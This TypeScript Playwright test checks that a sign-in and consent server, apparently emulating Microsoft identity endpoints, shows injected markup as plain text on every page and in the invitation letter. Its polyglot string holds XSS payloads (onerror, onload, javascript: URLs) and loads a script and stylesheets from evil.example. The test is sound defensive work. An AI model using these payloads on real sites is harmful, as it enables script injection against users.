import assert from 'node:assert/strict'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { type TestContext, test } from 'node:test'
import type { BrowserContext, Page } from 'playwright-core'
import type { TenantId } from '../../src/ids.ts'
import { launchBrowser } from '../harness/browser.ts'
import { startServer, type TestServer } from '../harness/index.ts'
import { inviteGuest } from '../invitations/story.ts'

/**
 * attacks.md 33: every text that somebody can write is a polyglot. Everything that shows it is opened in a browser: no
 * dialog, no script of the text, no request to anywhere else.
 */

const spy = 'https://evil.example'
const polyglot = (name: string) =>
  `${name}"'\`><img src=x onerror=alert(1)><svg/onload=alert(2)><script src=${spy}/s.js></script></title></style></textarea>` +
  `<style>@import '${spy}/c.css';*{background:url(${spy}/b)}</style><link rel=stylesheet href=${spy}/l><iframe src=javascript:alert(3)>` +
  `<a href="javascript:alert(4)" id=x>{{7*7}}\${alert(5)}`

type Watched = { context: BrowserContext; faults: string[]; seen: string[] }

/** The app that people are sent to. */
async function startApp(t: TestContext): Promise<string> {
  const listener = createServer((request, response) => {
    request.resume()
    request.on('end', () => response.setHeader('content-type', 'text/html').end('<title>The app</title>'))
  })
  await new Promise<void>((resolve) => listener.listen(0, 'localhost', resolve))
  t.after(() => listener.close())
  return `http://localhost:${(listener.address() as AddressInfo).port}`
}

async function watched(t: TestContext, server: TestServer, app: string): Promise<Watched> {
  const browser = await launchBrowser(t)
  const context = await browser.newContext()
  const faults: string[] = []
  const seen: string[] = []
  // Nothing of this test leaves the machine: what tries is a fault.
  await context.route('**/*', (route) => {
    const url = new URL(route.request().url())
    if (url.origin === server.origin || url.origin === app || url.protocol === 'data:') return route.continue()
    faults.push(`a request to ${url.href.slice(0, 100)}`)
    return route.abort()
  })
  context.on('page', (page) => {
    page.on('dialog', (dialog) => {
      faults.push(`a dialog: ${dialog.message()} at ${page.url()}`)
      void dialog.dismiss()
    })
  })
  return { context, faults, seen }
}

/** What the page holds that only markup could have made. */
async function inspect(page: Page, where: string, { faults, seen }: Watched): Promise<void> {
  const found: { made: string[]; handlers: string[]; shows: boolean } = await page.evaluate(`({
    made: [...document.querySelectorAll('img[src="x"], svg[onload], iframe, #x, ' +
      // Our own pages of scripts bring these along.
      'link[rel=stylesheet]:not([href^="/gatehouse/web/assets/"]), script[src]:not([src^="/gatehouse/web/assets/"])')]
      .map((one) => one.outerHTML.slice(0, 80)),
    handlers: [...document.querySelectorAll('*')]
      .flatMap((one) => one.getAttributeNames().filter((name) => name.startsWith('on'))),
    shows: document.documentElement.outerHTML.includes('onerror=alert(1)'),
  })`)
  if (found.made.length > 0) faults.push(`${where}: ${found.made}`)
  if (found.handlers.length > 0) faults.push(`${where}: ${found.handlers}`)
  if (found.shows) seen.push(where)
}

test('texts that are markup, in every field that a page or a letter shows, stay text', async (t) => {
  const server = await startServer(t)
  const { contoso, fabrikam } = server.demo.tenants
  const graph = server.graph('contoso')
  const done = async (what: string, answer: Promise<{ status: number; body: unknown }>) => {
    const { status, body } = await answer
    assert.ok(status < 300, `${what}: ${status} ${JSON.stringify(body)}`)
    return body as { id: string; appId: string }
  }

  // Names of tenant, app, permission and people.
  const { store } = server.running.deps
  // The name of an organization is the operator's to choose; no API changes it.
  await store.write(contoso.id as TenantId, (tx) =>
    store.tenants.update(tx, (old) => ({ ...old, displayName: polyglot('Tenant').slice(0, 250) })),
  )
  const app = await done(
    'app',
    graph.post('/v1.0/applications', {
      displayName: polyglot('App').slice(0, 250),
      web: { redirectUris: ['http://localhost/cb'], homePageUrl: 'https://app.contoso.test/' },
      info: { termsOfServiceUrl: 'https://app.contoso.test/terms' },
    }),
  )
  await done('service principal', graph.post('/v1.0/servicePrincipals', { appId: app.appId }))
  const api = contoso.apps.api!
  const { body: kept } = await graph.get(`/v1.0/applications/${api.objectId}`)
  await done(
    'permission',
    graph.patch(`/v1.0/applications/${api.objectId}`, {
      api: {
        ...kept.api,
        oauth2PermissionScopes: [
          ...kept.api.oauth2PermissionScopes,
          {
            id: server.running.deps.random.uuid(),
            value: 'Orders.Odd',
            type: 'User',
            isEnabled: true,
            adminConsentDisplayName: polyglot('Title').slice(0, 100),
            adminConsentDescription: polyglot('Description'),
            userConsentDisplayName: polyglot('Title').slice(0, 100),
            userConsentDescription: polyglot('Description'),
          },
        ],
      },
    }),
  )
  for (const person of ['member', 'inviter']) {
    await done(
      person,
      graph.patch(`/v1.0/users/${contoso.people[person]!.id}`, {
        displayName: polyglot('Person').slice(0, 256),
        givenName: polyglot('Given').slice(0, 64),
        jobTitle: polyglot('Job').slice(0, 128),
      }),
    )
  }
  const employee = fabrikam.people.employee!
  const invited = await inviteGuest(server, employee.mail, {
    invitedUserDisplayName: polyglot('Guest').slice(0, 256),
    sendInvitationMessage: true,
    invitedUserMessageInfo: { customizedMessageBody: polyglot('Message') },
    inviteRedirectUrl: `${server.origin}/myapps`,
  })

  const place = await startApp(t)
  const watch = await watched(t, server, place)
  const page = await watch.context.newPage()
  const look = async (where: string) => inspect(page, where, watch)
  const open = async (path: string, where: string) => {
    await page.goto(new URL(path, server.origin).href)
    await look(where)
  }
  const press = async (name: string, where: string) => {
    await page.getByRole('button', { name, exact: true }).click()
    await page.waitForLoadState()
    await look(where)
  }

  const authorize = (more: Record<string, string> = {}) =>
    `/${contoso.id}/oauth2/v2.0/authorize?${new URLSearchParams({
      client_id: app.appId,
      response_type: 'code',
      redirect_uri: `${place}/cb`,
      scope: `openid profile ${api.identifierUri}/Orders.Odd`,
      state: polyglot('State'),
      ...more,
    })}`

  // Texts of requests.
  for (const name of [
    'client_id',
    'redirect_uri',
    'scope',
    'prompt',
    'nonce',
    'claims',
    'domain_hint',
    'response_type',
  ]) {
    await open(authorize({ [name]: polyglot(name), response_mode: 'query' }), `authorize with ${name}`)
  }
  await open(authorize({ login_hint: polyglot('hint') }), 'authorize with login_hint')
  await open(authorize({ response_mode: 'form_post', prompt: 'none' }), 'form_post with state')
  for (const path of [
    `/error?code=${encodeURIComponent(polyglot('code'))}`,
    `/error?error=${encodeURIComponent(polyglot('error'))}&error_description=${encodeURIComponent(polyglot('d'))}`,
    `/redeem?tenant=${encodeURIComponent(polyglot('t'))}&user=${encodeURIComponent(polyglot('u'))}&ticket=${encodeURIComponent(polyglot('k'))}`,
    `/${encodeURIComponent(polyglot('segment')).slice(0, 300)}/oauth2/v2.0/authorize?client_id=${app.appId}`,
    `/${contoso.id}/oauth2/v2.0/logout?state=${encodeURIComponent(polyglot('s'))}&post_logout_redirect_uri=${encodeURIComponent(polyglot('p'))}&logout_hint=${encodeURIComponent(polyglot('h'))}`,
    `/${encodeURIComponent(polyglot('nothing')).slice(0, 200)}`,
  ])
    await open(path, path.slice(0, 30))

  // A member: name typed, password, consent, the app's own errors.
  await open(authorize(), 'sign in')
  await page.locator('[name=username]').fill(polyglot('typed').slice(0, 100))
  await press('Next', 'an unknown name')
  await open(authorize(), 'sign in')
  await page.locator('[name=username]').fill(contoso.people.member!.userPrincipalName)
  await press('Next', 'password')
  await page.locator('[name=password]').fill('wrong')
  await press('Sign in', 'wrong password')
  await page.locator('[name=password]').fill(contoso.people.member!.password)
  await press('Sign in', 'consent')
  assert.equal(await page.title(), 'Permissions requested')
  await press('Accept', 'after consent')
  await open(authorize({ prompt: 'select_account' }), 'account picker')
  const lookAtMyApps = async (where: string) => {
    await page.getByRole('main').getByRole('heading', { name: 'My Apps', level: 1 }).waitFor()
    await page.getByRole('main').getByText(polyglot('Tenant').slice(0, 20)).first().waitFor()
    await look(where)
  }
  await page.goto(`${server.origin}/myapps`)
  await lookAtMyApps('my apps of the member')
  await open(`/${contoso.id}/oauth2/v2.0/logout`, 'signed out')

  // The invited guest: letter, invitation, acceptance, refusals, my apps.
  const letter = await server.letter(employee.mail)
  await page.setContent(letter.html)
  await look('letter')
  await page.goto(`${server.origin}/gatehouse/outbox?to=${encodeURIComponent(employee.mail)}`)
  await look('outbox')
  await open(letter.links.find((link) => link.includes('/redeem')) ?? invited.link, 'invitation')
  await press('Continue to sign in', 'sign in to redeem')
  if ((await page.title()) === 'Pick an account') await press('Use another account', 'use another')
  if (await page.locator('[name=username]:visible').count()) {
    await page.locator('[name=username]:visible').fill(employee.userPrincipalName)
    await press('Next', 'password of the guest')
  }
  await page.locator('[name=password]').fill(employee.password)
  await press('Sign in', 'acceptance')
  if ((await page.title()) === 'Stay signed in?') await press('No', 'acceptance')
  assert.equal(await page.title(), 'Review permissions')
  await page.getByRole('button', { name: 'Accept', exact: true }).click()
  await lookAtMyApps('my apps of the guest')
  const block = {
    tenantId: fabrikam.id,
    b2bCollaborationInbound: {
      usersAndGroups: { accessType: 'blocked', targets: [{ target: 'AllUsers', targetType: 'user' }] },
      applications: { accessType: 'blocked', targets: [{ target: 'AllApplications', targetType: 'application' }] },
    },
  }
  await done('block', graph.post('/v1.0/policies/crossTenantAccessPolicy/partners', block))
  await open(authorize(), 'refused guest')

  assert.deepEqual(watch.faults, [])
  // The texts were really shown: a page without them proves nothing.
  for (const where of [
    'authorize with login_hint',
    'sign in',
    'consent',
    'account picker',
    'invitation',
    'acceptance',
    'letter',
    'my apps of the member',
    'my apps of the guest',
  ])
    assert.ok(watch.seen.includes(where), `${where} does not show the text; seen: ${watch.seen}`)
})
